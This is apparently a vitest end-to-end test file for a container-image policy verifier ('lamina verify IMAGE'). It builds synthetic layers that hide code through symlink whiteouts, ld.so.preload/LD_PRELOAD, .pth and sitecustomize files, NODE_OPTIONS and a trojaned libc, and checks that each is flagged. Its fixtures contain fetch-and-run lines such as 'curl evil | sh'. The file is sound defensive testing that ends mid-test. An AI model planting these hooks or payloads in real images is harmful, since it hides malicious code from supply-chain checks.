/**
 * `lamina verify IMAGE` where the runtime sees code lamina did not (each case once let a denied
 * program or unlisted code pass the policy):
 *
 * - an upper layer writes or whites out through a lower layer's directory symlink (`bin ->
 *   usr/bin`, as usrmerge images have). Overlay-based runtimes (Docker's overlay2, containerd's
 *   overlayfs snapshotter) unpack each layer into a directory of its own, where that link does
 *   not exist: `bin/.wh.nc` makes `bin` a directory and deletes nothing under `usr/bin`, `bin/nc`
 *   leaves `usr/bin/nc` as the lower layer has it. Such an image fails `inventory:complete`, and
 *   lamina keeps what the whiteout did not delete, so the binary is listed, unowned;
 * - the image's `/etc/os-release` names another vendor, or is gone: the denied Debian package is
 *   still installed (dpkg never reads that file), and still denied;
 * - the loader preloads a shared object into every process (`/etc/ld.so.preload`, the config's
 *   `LD_PRELOAD` or `LD_AUDIT`), or the entry point runs a file through the loader (`ld.so FILE`),
 *   under a name and mode that say nothing: it is read and listed, unowned;
 * - the config's environment makes the runtime load a file no cataloger reads
 *   (`NODE_OPTIONS=--require /usr/share/doc/x/readme.js`): `ENV_LOADER`, allowed only by name;
 * - a denied npm package outside any `node_modules`, in `/var/task` or `/var/runtime`, which
 *   Lambda's Node.js bootstrap puts on `NODE_PATH`: `require('event-stream')` loads it;
 * - a `.pth` in the runtime's own site directory (`/var/lang/lib/python3.12/site-packages`),
 *   whose `import` lines `site` runs at every start: listed, unowned unless a RECORD lists it.
 */
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { TarEntry } from '../../../scripts/lib/tarwriter.mjs';
import { buildElf } from '../../../src/inventory/binary/testing/elf-builder.js';
import {
  dir,
  file,
  link,
  verifyImageRef,
  wh,
  writeImageLayout,
  writeInventoryPolicy,
} from '../helpers/images.js';

const tmp = mkdtempSync(join(tmpdir(), 'lamina-e2e-symlink-layers-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

const ET_EXEC = 2;
const elf = (text: string): Buffer =>
  buildElf({ type: ET_EXEC, sections: [{ name: '.text', data: Buffer.from(text) }] }).buf;
const NETCAT = elf('netcat: the denied program');
const BENIGN = elf('a program the policy allows');
const md5 = (b: Buffer): string => createHash('md5').update(b).digest('hex');

const DPKG = [dir('var'), dir('var/lib'), dir('var/lib/dpkg'), dir('var/lib/dpkg/info')];

/** A dpkg database where `pkg` installed /usr/bin/nc with `content`. */
function dpkgOwningNc(pkg: string, content: Buffer): TarEntry[] {
  return [
    ...DPKG,
    file(
      'var/lib/dpkg/status',
      `Package: ${pkg}\nStatus: install ok installed\nVersion: 1.0-1\nArchitecture: amd64\n`
    ),
    file(`var/lib/dpkg/info/${pkg}.list`, '/.\n/usr\n/usr/bin\n/usr/bin/nc\n'),
    file(`var/lib/dpkg/info/${pkg}.md5sums`, `${md5(content)}  usr/bin/nc\n`),
  ];
}

/** Debian-like base: usrmerge `bin -> usr/bin`, netcat-openbsd installed at /usr/bin/nc. */
const BASE: TarEntry[] = [
  dir('etc'),
  file('etc/os-release', 'ID=debian\nVERSION_ID="12"\n'),
  dir('usr'),
  dir('usr/bin'),
  { name: 'bin', type: 'symlink', linkname: 'usr/bin' },
  file('usr/bin/nc', NETCAT, 0o755),
  ...dpkgOwningNc('netcat-openbsd', NETCAT),
];

/** The upper layer drops netcat from the database (base-files, which owns nothing, stays). */
const FORGET_NETCAT: TarEntry[] = [
  ...DPKG,
  file(
    'var/lib/dpkg/status',
    'Package: base-files\nStatus: install ok installed\nVersion: 12.4\nArchitecture: amd64\n'
  ),
  wh('var/lib/dpkg/info/.wh.netcat-openbsd.list'),
  wh('var/lib/dpkg/info/.wh.netcat-openbsd.md5sums'),
];

const POLICY = writeInventoryPolicy(tmp, 'images');

/** Write a two-layer image (base, `top`) that runs /usr/bin/nc, and verify it. */
async function verify(
  top: TarEntry[],
  env?: string[],
  entrypoint = ['/usr/bin/nc', '-l', '8080'],
  policy = POLICY
) {
  const ref = writeImageLayout(tmp, [BASE, top], {
    Entrypoint: entrypoint,
    ...(env ? { Env: env } : {}),
  });
  const r = await verifyImageRef(ref, policy, join(tmp, 'cache'));
  return { code: r.code, check: r.check };
}

describe('verify IMAGE: a layer acting through a lower-layer directory symlink', () => {
  it('controls: netcat in the database is denied; netcat whited out at its real path passes', async () => {
    const seen = await verify([dir('etc')]);
    expect(seen.code).toBe(1);
    expect(seen.check('packages')?.outcome).toBe('fail');
    const gone = await verify([...FORGET_NETCAT, dir('usr'), dir('usr/bin'), wh('usr/bin/.wh.nc')]);
    expect(gone.code).toBe(0);
    expect(gone.check('inventory:complete')?.outcome).toBe('pass');
  });

  it.each([
    ['alone', [wh('bin/.wh.nc')]],
    ['after an entry that makes bin a directory', [dir('bin'), wh('bin/.wh.nc')]],
  ])(
    'netcat whited out through bin -> usr/bin (%s) still runs: the inventory is incomplete',
    async (_name, whiteout) => {
      const r = await verify([...FORGET_NETCAT, ...whiteout]);
      expect(r.code).toBe(1);
      expect(r.check('packages')?.outcome).toBe('pass');
      const complete = r.check('inventory:complete');
      expect(complete?.outcome).toBe('fail');
      expect(complete?.detail).toContain('WRITE_THROUGH_SYMLINK bin/.wh.nc');
      // The whiteout deleted nothing: the binary is still there, and no package owns it now.
      expect(complete?.detail).toContain('UNOWNED_EXECUTABLE usr/bin/nc');
    }
  );

  it('netcat replaced through bin -> usr/bin by an allowed program fails: /usr/bin/nc is still netcat under overlay', async () => {
    // The database now says an allowed package installed /usr/bin/nc with the benign bytes, which
    // is what lamina reads there; an overlay runtime reads the lower netcat at /usr/bin/nc.
    const r = await verify([
      ...dpkgOwningNc('allowed-tools', BENIGN),
      file('bin/nc', BENIGN, 0o755),
    ]);
    expect(r.code).toBe(1);
    expect(r.check('packages')?.outcome).toBe('pass');
    expect(r.check('inventory:complete')?.outcome).toBe('fail');
    expect(r.check('inventory:complete')?.detail).toContain('WRITE_THROUGH_SYMLINK bin/nc');
  });
});

describe("verify IMAGE: dpkg's diversions", () => {
  // allowed-tools installed /usr/bin/nc; nc-wrapper diverted it to /usr/bin/nc.distrib and
  // installed its own /usr/bin/nc, as dpkg-divert --rename leaves them.
  const WRAPPER = elf('a wrapper around the allowed program');
  const diverted = (diversions: string): TarEntry[] => [
    ...DPKG,
    file('var/lib/dpkg/info/allowed-tools.list', '/.\n/usr\n/usr/bin\n/usr/bin/nc\n'),
    file('var/lib/dpkg/info/allowed-tools.md5sums', `${md5(BENIGN)}  usr/bin/nc\n`),
    file(
      'var/lib/dpkg/status',
      ['allowed-tools', 'nc-wrapper']
        .map(
          (p) =>
            `Package: ${p}\nStatus: install ok installed\nVersion: 1.0-1\nArchitecture: amd64\n`
        )
        .join('\n')
    ),
    file('var/lib/dpkg/info/nc-wrapper.list', '/.\n/usr\n/usr/bin\n/usr/bin/nc\n'),
    file('var/lib/dpkg/info/nc-wrapper.md5sums', `${md5(WRAPPER)}  usr/bin/nc\n`),
    file('var/lib/dpkg/diversions', diversions),
    file('usr/bin/nc', WRAPPER, 0o755),
    file('usr/bin/nc.distrib', BENIGN, 0o755),
  ];

  it('a diverted file is checked where dpkg put it, and owned by its package', async () => {
    const r = await verify(diverted('/usr/bin/nc\n/usr/bin/nc.distrib\nnc-wrapper\n'));
    expect(r.check('inventory:complete')?.detail).toContain('The inventory is complete');
    expect(r.code).toBe(0);
  });

  it('a diversions file dpkg could not read owns nothing: every listed executable is unowned', async () => {
    const r = await verify(diverted('/usr/bin/nc\n/usr/bin/nc.distrib\n'));
    expect(r.code).toBe(1);
    const detail = r.check('inventory:complete')?.detail;
    expect(detail).toContain('PARSE_ERROR var/lib/dpkg/diversions');
    expect(detail).toContain('UNOWNED_EXECUTABLE usr/bin/nc');
  });
});

describe('verify IMAGE: what the loader preloads or the entry point runs', () => {
  // netcat is gone at its real path (the control above passes); a shared object stays behind
  // as data: mode 0644, no .so name, nothing but the loader's configuration says it runs.
  const HIDDEN = buildElf({
    type: 3,
    sections: [{ name: '.text', data: Buffer.from('hook') }],
  }).buf;
  const clean = [...FORGET_NETCAT, dir('usr'), dir('usr/bin'), wh('usr/bin/.wh.nc')];
  const hidden = [
    dir('usr/share'),
    dir('usr/share/misc'),
    file('usr/share/misc/magic.mgc', HIDDEN),
  ];

  it('the control: the same file, not preloaded, is data', async () => {
    const r = await verify([...clean, ...hidden]);
    expect(r.code).toBe(0);
  });

  it('a file the entry point runs through the loader is listed and fails inventory:complete', async () => {
    // `ld.so FILE` runs a readable ELF whatever its mode or name.
    const r = await verify([...clean, ...hidden], undefined, [
      '/lib64/ld-linux-x86-64.so.2',
      '/usr/share/misc/magic.mgc',
    ]);
    expect(r.code).toBe(1);
    expect(r.check('inventory:complete')?.detail).toContain(
      'UNOWNED_EXECUTABLE usr/share/misc/magic.mgc'
    );
  });

  it('so is one a shell command line in the entry point runs through the loader', async () => {
    const notes = [dir('usr/share/doc'), file('usr/share/doc/notes.txt', 'plain text\n')];
    const shell = async (line: string) => {
      const r = await verify([...clean, ...hidden, ...notes], undefined, ['/bin/sh', '-c', line]);
      return { code: r.code, detail: r.check('inventory:complete')?.detail ?? '' };
    };
    // A shell's string is a script no package owns: ENV_LOADER, even naming only data.
    const data = await shell('cat /usr/share/doc/notes.txt > /tmp/out');
    expect(data.code).toBe(1);
    expect(data.detail).toContain('ENV_LOADER sh -c');
    expect(data.detail).not.toContain('UNOWNED_EXECUTABLE');
    // What it names by path is read too.
    const named = await shell('exec /lib64/ld-linux-x86-64.so.2 /usr/share/misc/magic.mgc "$@"');
    expect(named.code).toBe(1);
    expect(named.detail).toContain('UNOWNED_EXECUTABLE usr/share/misc/magic.mgc');
    // Quoting hides the path from any reading of words; the string alone fails.
    const quoted = await shell('exec /lib64/ld-linux-x86-64.so.2 /usr/share/mi""sc/magic.mgc');
    expect(quoted.code).toBe(1);
    expect(quoted.detail).toContain('ENV_LOADER sh -c');
  });

  it.each([
    ['/etc/ld.so.preload', [file('etc/ld.so.preload', '/usr/share/misc/magic.mgc\n')], undefined],
    ["the image config's LD_PRELOAD", [], ['LD_PRELOAD=/usr/share/misc/magic.mgc']],
    ["the image config's LD_AUDIT", [], ['LD_AUDIT=/usr/share/misc/magic.mgc']],
  ])(
    'a shared object named by %s is listed and fails inventory:complete',
    async (_n, extra, env) => {
      const r = await verify([...clean, ...hidden, dir('etc'), ...extra], env);
      expect(r.code).toBe(1);
      expect(r.check('inventory:complete')?.detail).toContain(
        'UNOWNED_EXECUTABLE usr/share/misc/magic.mgc'
      );
    }
  );
});

describe("verify IMAGE: the image config's environment", () => {
  const clean = [...FORGET_NETCAT, dir('usr'), dir('usr/bin'), wh('usr/bin/.wh.nc')];
  const script = [
    dir('usr/share'),
    dir('usr/share/doc'),
    dir('usr/share/doc/x'),
    file('usr/share/doc/x/readme.js', "require('child_process').execSync('curl evil')\n"),
  ];
  // What AWS base images set: the catalogers read every executable and library wherever
  // PATH and LD_LIBRARY_PATH lead, so these alone load nothing unread.
  const BASE_ENV = [
    'PATH=/var/lang/bin:/usr/local/bin:/usr/bin/:/bin:/opt/bin',
    'LD_LIBRARY_PATH=/var/lang/lib:/lib64:/usr/lib64:/var/runtime:/var/task:/opt/lib',
    'LAMBDA_TASK_ROOT=/var/task',
    'LANG=en_US.UTF-8',
  ];

  it("the control: the base images' variables pass", async () => {
    const r = await verify([...clean, ...script], BASE_ENV);
    expect(r.code).toBe(0);
    expect(r.check('inventory:complete')?.outcome).toBe('pass');
  });

  it.each([
    ['NODE_OPTIONS', '--require /usr/share/doc/x/readme.js'],
    ['AWS_LAMBDA_EXEC_WRAPPER', '/usr/share/doc/x/readme.js'],
    ['JAVA_TOOL_OPTIONS', '-javaagent:/usr/share/doc/x/agent.jar'],
    ['PYTHONPATH', '/usr/share/doc/x'],
  ])('%s in the config fails inventory:complete (ENV_LOADER)', async (name, value) => {
    const r = await verify([...clean, ...script], [...BASE_ENV, `${name}=${value}`]);
    expect(r.code).toBe(1);
    expect(r.check('inventory:complete')?.outcome).toBe('fail');
    expect(r.check('inventory:complete')?.detail).toContain(`ENV_LOADER ${name}`);
  });

  it('an entry point that runs inline code (python3 -c) fails inventory:complete (ENV_LOADER)', async () => {
    const inline = ['python3', '-c', 'import base64; exec(base64.b64decode("cHJpbnQoMSk="))'];
    const r = await verify([...clean, ...script], BASE_ENV, inline);
    expect(r.code).toBe(1);
    expect(r.check('inventory:complete')?.detail).toContain('ENV_LOADER python3 -c');
    // A script's own -c after its name is the script's argument.
    const own = await verify([...clean, ...script], BASE_ENV, ['python3', 'app.py', '-c', 'x']);
    expect(own.code).toBe(0);
  });

  it('a variable the policy allows by name passes; the allowance covers that name only', async () => {
    const allowing = join(tmp, 'policy-env.yaml');
    writeFileSync(
      allowing,
      `version: 1
default: deny
images:
  - match: { repository: '**' }
    mode: enforce
    packages: { deny: [{ purl: 'pkg:deb/debian/netcat-openbsd' }] }
    inventory:
      allow:
        - { code: ENV_LOADER, paths: [JAVA_TOOL_OPTIONS], reason: 'JVM start-up flags' }
`
    );
    const jvm = 'JAVA_TOOL_OPTIONS=-XX:+TieredCompilation -XX:TieredStopAtLevel=1';
    const ok = await verify([...clean, ...script], [...BASE_ENV, jvm], undefined, allowing);
    expect(ok.code).toBe(0);
    const node = 'NODE_OPTIONS=--require /usr/share/doc/x/readme.js';
    const bad = await verify([...clean, ...script], [...BASE_ENV, jvm, node], undefined, allowing);
    expect(bad.code).toBe(1);
    const detail = bad.check('inventory:complete')?.detail;
    expect(detail).toContain('could see: ENV_LOADER NODE_OPTIONS.');
    expect(detail).toContain('allowed by the rule: ENV_LOADER JAVA_TOOL_OPTIONS.');
  });
});

describe("verify IMAGE: packages on the Node.js runtime's NODE_PATH", () => {
  const clean = [...FORGET_NETCAT, dir('usr'), dir('usr/bin'), wh('usr/bin/.wh.nc')];
  const denying = join(tmp, 'policy-npm.yaml');
  writeFileSync(
    denying,
    `version: 1
default: deny
images:
  - match: { repository: '**' }
    mode: enforce
    packages: { deny: [{ purl: 'pkg:npm/event-stream' }, { purl: 'pkg:npm/flatmap-stream' }] }
`
  );
  const pkg = (at: string, name: string): TarEntry[] => [
    dir(at),
    file(`${at}/package.json`, JSON.stringify({ name, version: '3.3.6', main: 'index.js' })),
    file(`${at}/index.js`, 'module.exports = 1;\n'),
  ];
  const VAR = [
    ...['var', 'var/task', 'var/runtime', 'srv', 'var/lang', 'var/lang/lib', 'var/lang/lib/node'],
    ...['root', 'root/.node_libraries'],
  ].map(dir);

  it.each([
    ['/var/task', 'var/task/event-stream', 'event-stream'],
    ['/var/runtime', 'var/runtime/event-stream', 'event-stream'],
    ['/var/task, under another name', 'var/task/stream-utils', 'flatmap-stream'],
    ['/var/task, scoped', 'var/task/@acme', 'event-stream'],
    ["Node's global folder /var/lang/lib/node", 'var/lang/lib/node/event-stream', 'event-stream'],
    ["root's ~/.node_libraries", 'root/.node_libraries/event-stream', 'event-stream'],
  ])('a denied package directly in %s is denied', async (_n, at, name) => {
    const entries = at.endsWith('@acme') ? [dir(at), ...pkg(`${at}/utils`, name)] : pkg(at, name);
    const r = await verify([...clean, ...VAR, ...entries], undefined, undefined, denying);
    expect(r.code).toBe(1);
    expect(r.check('packages')?.detail).toContain(`pkg:npm/${name}@3.3.6`);
  });

  it('the control: elsewhere (not on NODE_PATH) it is not a package', async () => {
    const r = await verify(
      [...clean, ...VAR, ...pkg('srv/event-stream', 'event-stream')],
      undefined,
      undefined,
      denying
    );
    expect(r.code).toBe(0);
  });
});

describe("verify IMAGE: a .pth in the runtime's own site directory", () => {
  const clean = [...FORGET_NETCAT, dir('usr'), dir('usr/bin'), wh('usr/bin/.wh.nc')];
  const SP = 'var/lang/lib/python3.12/site-packages';
  const PTH = 'import os; os.system("curl evil")\n';
  const tree = [
    dir('var'),
    dir('var/lang'),
    dir('var/lang/lib'),
    dir('var/lang/lib/python3.12'),
    dir(SP),
  ];
  const b64 = (b: string) => createHash('sha256').update(b).digest('base64url');

  it('an unowned one fails inventory:complete', async () => {
    const r = await verify([...clean, ...tree, file(`${SP}/zzz-init.pth`, PTH)]);
    expect(r.code).toBe(1);
    expect(r.check('inventory:complete')?.detail).toContain(
      `UNOWNED_EXECUTABLE ${SP}/zzz-init.pth`
    );
  });

  it('the control: one the RECORD of an installed distribution lists passes', async () => {
    const r = await verify([
      ...clean,
      ...tree,
      file(`${SP}/zzz-init.pth`, PTH),
      dir(`${SP}/zzz_init-1.0.dist-info`),
      file(
        `${SP}/zzz_init-1.0.dist-info/METADATA`,
        'Metadata-Version: 2.1\nName: zzz-init\nVersion: 1.0\n'
      ),
      file(
        `${SP}/zzz_init-1.0.dist-info/RECORD`,
        `zzz-init.pth,sha256=${b64(PTH)},${PTH.length}\nzzz_init-1.0.dist-info/METADATA,,\nzzz_init-1.0.dist-info/RECORD,,\n`
      ),
    ]);
    expect(r.check('inventory:complete')?.outcome).toBe('pass');
    expect(r.code).toBe(0);
  });
});

describe('verify IMAGE: function code behind a symlinked /var/task', () => {
  // An OS package database may not vouch for function code; /var/task -> /srv/app once let it.
  const PROGRAM = elf('the function');
  const image = (task: TarEntry[], at: string): TarEntry[] => [
    ...dpkgOwningNc('allowed-tools', PROGRAM).map((e) =>
      // The allowed package lists the function's program instead of /usr/bin/nc.
      typeof e.data === 'string' ? { ...e, data: e.data.replaceAll('usr/bin/nc', at) } : e
    ),
    wh('var/lib/dpkg/info/.wh.netcat-openbsd.list'),
    wh('var/lib/dpkg/info/.wh.netcat-openbsd.md5sums'),
    dir('usr'),
    dir('usr/bin'),
    wh('usr/bin/.wh.nc'),
    dir('srv'),
    ...task,
    file(at, PROGRAM, 0o755),
  ];

  it.each([
    ['a directory', [dir('var/task')], 'var/task/bootstrap'],
    [
      'a symlink to /srv/app',
      [dir('srv/app'), link('var/task', '../srv/app')],
      'srv/app/bootstrap',
    ],
  ])('/var/task is %s: the claim is refused, the program unowned', async (_n, task, at) => {
    const r = await verify(image(task, at), undefined, ['/var/task/bootstrap']);
    expect(r.code).toBe(1);
    expect(r.check('inventory:complete')?.detail).toContain(`UNOWNED_EXECUTABLE ${at}`);
  });
});

describe('verify IMAGE: a denied OS package under another os-release', () => {
  // dpkg and the loader never read /etc/os-release; the purl's vendor comes from it.
  it.each([
    ['says ubuntu', [dir('etc'), file('etc/os-release', 'ID=ubuntu\nVERSION_ID="22.04"\n')]],
    ['is gone', [dir('etc'), wh('etc/.wh.os-release')]],
  ])('netcat-openbsd is denied when the os-release %s', async (_n, top) => {
    const r = await verify(top);
    expect(r.code).toBe(1);
    expect(r.check('packages')?.outcome).toBe('fail');
    expect(r.check('packages')?.detail).toMatch(/netcat-openbsd@1\.0-1/);
  });
});

const PYTHON = elf('python3.11');
const OS_PY = 'import abc\n';
const SITECUSTOMIZE = '# install the apport exception handler if available\n';

/**
 * Debian's python3.11-minimal: its interpreter and os.py, checked against the md5sums, and
 * usr/lib/python3.11/sitecustomize.py, a link to the conffile /etc/python3.11/sitecustomize.py
 * (`conffile`: what that file holds now; the status records SITECUSTOMIZE's md5).
 */
function debianPython(conffile = SITECUSTOMIZE): TarEntry[] {
  return [
    ...DPKG,
    file(
      'var/lib/dpkg/status',
      `Package: python3.11-minimal\nStatus: install ok installed\nVersion: 3.11.2-6\nArchitecture: amd64\nConffiles:\n /etc/python3.11/sitecustomize.py ${md5(Buffer.from(SITECUSTOMIZE))}\n`
    ),
    file(
      'var/lib/dpkg/info/python3.11-minimal.list',
      ['/.', '/etc', '/etc/python3.11', '/etc/python3.11/sitecustomize.py', '/usr', '/usr/bin']
        .concat(['/usr/bin/python3.11', '/usr/lib', '/usr/lib/python3.11'])
        .concat(['/usr/lib/python3.11/os.py', '/usr/lib/python3.11/sitecustomize.py', ''])
        .join('\n')
    ),
    file(
      'var/lib/dpkg/info/python3.11-minimal.md5sums',
      `${md5(PYTHON)}  usr/bin/python3.11\n${md5(Buffer.from(OS_PY))}  usr/lib/python3.11/os.py\n`
    ),
    wh('var/lib/dpkg/info/.wh.netcat-openbsd.list'),
    wh('var/lib/dpkg/info/.wh.netcat-openbsd.md5sums'),
    dir('etc'),
    dir('etc/python3.11'),
    file('etc/python3.11/sitecustomize.py', conffile),
    dir('usr'),
    dir('usr/bin'),
    wh('usr/bin/.wh.nc'),
    file('usr/bin/python3.11', PYTHON, 0o755),
    dir('usr/lib'),
    dir('usr/lib/python3.11'),
    file('usr/lib/python3.11/os.py', OS_PY),
    link('usr/lib/python3.11/sitecustomize.py', '/etc/python3.11/sitecustomize.py'),
  ];
}

describe("verify IMAGE: a sitecustomize in Python's standard library", () => {
  // Python imports sitecustomize from sys.path at every start, the standard library included:
  // Debian's is a link there to a conffile, which dpkg does not checksum in md5sums.
  const run = ['/usr/bin/python3.11', '/var/task/app.py'];

  it("the control: Debian's, as installed, passes", async () => {
    const r = await verify(debianPython(), undefined, run);
    expect(r.check('inventory:complete')?.outcome).toBe('pass');
    expect(r.code).toBe(0);
  });

  it('the conffile changed fails inventory:complete', async () => {
    const r = await verify(debianPython('import os; os.system("curl evil")\n'), undefined, run);
    expect(r.code).toBe(1);
    expect(r.check('inventory:complete')?.detail).toContain(
      'UNOWNED_EXECUTABLE etc/python3.11/sitecustomize.py'
    );
  });
});

describe("verify IMAGE: a module in the function's directory named like the standard library", () => {
  it('is STDLIB_SHADOWED in an image with no installed distribution and no bytecode', async () => {
    // Debian's python3.11-minimal and the function's code: nothing else Python's in the image.
    const task = [dir('var'), dir('var/task'), file('var/task/uuid.py', 'import os\n')];
    const r = await verify([...debianPython(), ...task], undefined, [
      '/usr/bin/python3.11',
      '/var/task/app.py',
    ]);
    expect(r.code).toBe(1);
    expect(r.check('inventory:complete')?.detail).toContain('STDLIB_SHADOWED var/task/uuid.py');
  });
});

describe("verify IMAGE: a pyvenv.cfg moving Python's standard library", () => {
  const python = debianPython();
  // A standard library of its own, as data: encodings runs at every start of the interpreter.
  const hidden = (at: string): TarEntry[] => [
    dir(`${at}`),
    dir(`${at}/lib`),
    dir(`${at}/lib/python3.11`),
    dir(`${at}/lib/python3.11/encodings`),
    file(`${at}/lib/python3.11/os.py`, OS_PY),
    file(`${at}/lib/python3.11/encodings/__init__.py`, 'import os; os.system("curl evil")\n'),
  ];
  const doc = [dir('usr/share'), dir('usr/share/doc'), ...hidden('usr/share/doc/x')];
  const run = ['/usr/bin/python3.11', '/var/task/app.py'];

  it('the control: a virtual environment of the OS Python (home = /usr/bin) passes', async () => {
    const venv = [
      ...['opt', 'opt/venv', 'opt/venv/bin'].map(dir),
      link('opt/venv/bin/python3', '/usr/bin/python3.11'),
      file('opt/venv/pyvenv.cfg', 'home = /usr/bin\ninclude-system-site-packages = false\n'),
    ];
    const r = await verify([...python, ...doc, ...venv], undefined, ['/opt/venv/bin/python3']);
    expect(r.check('inventory:complete')?.outcome).toBe('pass');
    expect(r.code).toBe(0);
    // The same standard library, unused, is data.
    expect((await verify([...python, ...doc], undefined, run)).code).toBe(0);
  });

  it.each([
    [
      'beside the interpreter (usr/bin/pyvenv.cfg)',
      'usr/bin/pyvenv.cfg',
      'home = /usr/share/doc/x/bin\n',
    ],
    ['one directory up (usr/pyvenv.cfg)', 'usr/pyvenv.cfg', 'HOME=/usr/share/doc/x\n'],
  ])('one %s naming a standard library in data fails inventory:complete', async (_n, at, cfg) => {
    const r = await verify([...python, ...doc, file(at, cfg)], undefined, run);
    expect(r.code).toBe(1);
    expect(r.check('inventory:complete')?.detail).toContain(`STDLIB_SHADOWED ${at}`);
  });

  it('a pybuilddir.txt beside the interpreter (a build tree: the standard library from Lib/) fails inventory:complete', async () => {
    const lib = [dir('usr/bin/Lib'), dir('usr/bin/Lib/encodings')];
    const evil = file('usr/bin/Lib/encodings/__init__.py', 'import os; os.system("curl evil")\n');
    const marker = file('usr/bin/pybuilddir.txt', 'build/lib.linux-x86_64-3.11\n');
    expect((await verify([...python, ...lib, evil], undefined, run)).code).toBe(0);
    const r = await verify([...python, ...lib, evil, marker], undefined, run);
    expect(r.code).toBe(1);
    expect(r.check('inventory:complete')?.detail).toContain(
      'STDLIB_SHADOWED usr/bin/pybuilddir.txt'
    );
  });
});

describe('verify IMAGE: a package file replaced behind a usrmerge link', () => {
  // libc6 lists /lib/x86_64-linux-gnu/libc.so.6; /lib is a link to usr/lib, as in Debian 12.
  const LIBC = buildElf({ type: 3, sections: [{ name: '.text', data: Buffer.from('libc') }] }).buf;
  const TROJAN = buildElf({
    type: 3,
    sections: [{ name: '.text', data: Buffer.from('evil') }],
  }).buf;
  const libc: TarEntry[] = [
    ...DPKG,
    file(
      'var/lib/dpkg/status',
      'Package: libc6\nStatus: install ok installed\nVersion: 2.36-9\nArchitecture: amd64\n'
    ),
    file(
      'var/lib/dpkg/info/libc6.list',
      '/.\n/lib\n/lib/x86_64-linux-gnu\n/lib/x86_64-linux-gnu/libc.so.6\n'
    ),
    file('var/lib/dpkg/info/libc6.md5sums', `${md5(LIBC)}  lib/x86_64-linux-gnu/libc.so.6\n`),
    wh('var/lib/dpkg/info/.wh.netcat-openbsd.list'),
    wh('var/lib/dpkg/info/.wh.netcat-openbsd.md5sums'),
    dir('usr'),
    dir('usr/bin'),
    wh('usr/bin/.wh.nc'),
    dir('usr/lib'),
    link('lib', 'usr/lib'),
    dir('usr/lib/x86_64-linux-gnu'),
  ];

  it("the control: the file dpkg installed is libc6's", async () => {
    const r = await verify([...libc, file('usr/lib/x86_64-linux-gnu/libc.so.6', LIBC)]);
    expect(r.check('inventory:complete')?.outcome).toBe('pass');
    expect(r.code).toBe(0);
  });

  it('another file there is PACKAGE_FILE_MODIFIED', async () => {
    const r = await verify([...libc, file('usr/lib/x86_64-linux-gnu/libc.so.6', TROJAN)]);
    expect(r.code).toBe(1);
    expect(r.check('inventory:complete')?.detail).toContain(
      'PACKAGE_FILE_MODIFIED usr/lib/x86_64-linux-gnu/libc.so.6'
    );
  });
});

describe('verify IMAGE: a file an OS package lists with no checksum', () => {
  const EVIL = elf('a program no package installed');
  const listing = (list: string, md5sums: string, status = ''): TarEntry[] => [
    ...DPKG,
    file(
      'var/lib/dpkg/status',
      `Package: base-files\nStatus: install ok installed\nVersion: 12.4\nArchitecture: amd64\n${status}`
    ),
    file('var/lib/dpkg/info/base-files.list', list),
    file('var/lib/dpkg/info/base-files.md5sums', md5sums),
    wh('var/lib/dpkg/info/.wh.netcat-openbsd.list'),
    wh('var/lib/dpkg/info/.wh.netcat-openbsd.md5sums'),
    dir('usr'),
    dir('usr/bin'),
    wh('usr/bin/.wh.nc'),
    dir('usr/local'),
    dir('usr/local/bin'),
    file('usr/local/bin/tool', EVIL, 0o755),
  ];

  it("the control: listed with its checksum, it is the package's", async () => {
    const r = await verify(
      listing('/usr/local/bin/tool\n', `${md5(EVIL)}  usr/local/bin/tool\n`),
      undefined,
      ['/usr/local/bin/tool']
    );
    expect(r.check('inventory:complete')?.outcome).toBe('pass');
  });

  it.each([
    ['only in the .list', '', ''],
    [
      'as a conffile recorded with another checksum',
      '',
      ` Conffiles:\n /usr/local/bin/tool ${'0'.repeat(32)}\n`,
    ],
  ])('listed %s, it is unowned', async (_n, md5sums, conffiles) => {
    const r = await verify(
      listing('/usr/local/bin/tool\n', md5sums, conffiles.replace(/^ /, '')),
      undefined,
      ['/usr/local/bin/tool']
    );
    expect(r.code).toBe(1);
    expect(r.check('inventory:complete')?.detail).toContain(
      'UNOWNED_EXECUTABLE usr/local/bin/tool'
    );
  });
});

describe('verify IMAGE: a script the entry point runs', () => {
  // A shell script runs as any program does: the kernel execs it (#!), or PATH finds it.
  const SCRIPT = '#!/bin/sh\ncurl evil | sh\nexec /usr/bin/python3.11 "$@"\n';
  const PATH_ENV = ['PATH=/usr/local/bin:/usr/bin:/bin'];
  const wrapper = [
    dir('usr/local'),
    dir('usr/local/bin'),
    file('usr/local/bin/python3', SCRIPT, 0o755),
  ];
  const python3 = [...debianPython(), link('usr/bin/python3', 'python3.11')];
  // A directory outside every search path, for files only a start command names.
  const doc = [dir('usr/share'), dir('usr/share/doc'), dir('usr/share/doc/x')];

  it('the control: python3 found on PATH as the OS installed it passes', async () => {
    const r = await verify(python3, PATH_ENV, ['python3', '/var/task/app.py']);
    expect(r.check('inventory:complete')?.outcome).toBe('pass');
    expect(r.code).toBe(0);
  });

  it('a script earlier on PATH than the interpreter the entry point names fails inventory:complete', async () => {
    const r = await verify([...python3, ...wrapper], PATH_ENV, ['python3', '/var/task/app.py']);
    expect(r.code).toBe(1);
    expect(r.check('inventory:complete')?.detail).toContain(
      'UNOWNED_EXECUTABLE usr/local/bin/python3'
    );
  });

  it('a script a wrapper runs by path fails inventory:complete (env, nohup and timeout exec it here)', async () => {
    const run = join(tmp, 'wrapped.sh');
    writeFileSync(run, '#!/bin/sh\necho RAN\n', { mode: 0o755 });
    for (const wrapper of [['env'], ['nohup'], ['timeout', '5']]) {
      const ran = spawnSync(wrapper[0]!, [...wrapper.slice(1), run], { encoding: 'utf8' });
      expect(ran.stdout).toContain('RAN');
    }
    for (const entrypoint of [
      ['/usr/bin/env', '/usr/share/doc/x/run.sh'],
      ['nohup', '/usr/share/doc/x/run.sh'],
      ['/usr/bin/tini', '--', '/usr/share/doc/x/run.sh', 'app.handler'],
    ]) {
      const r = await verify(
        [...python3, ...doc, file('usr/share/doc/x/run.sh', SCRIPT, 0o755)],
        PATH_ENV,
        entrypoint
      );
      expect(r.code).toBe(1);
      expect(r.check('inventory:complete')?.detail).toContain(
        'UNOWNED_EXECUTABLE usr/share/doc/x/run.sh'
      );
    }
  });

  it("a file an interpreter runs as its script, whatever its mode, fails inventory:complete outside the function's directory", async () => {
    // python3 and sh here run a text file of mode 0644 as their code.
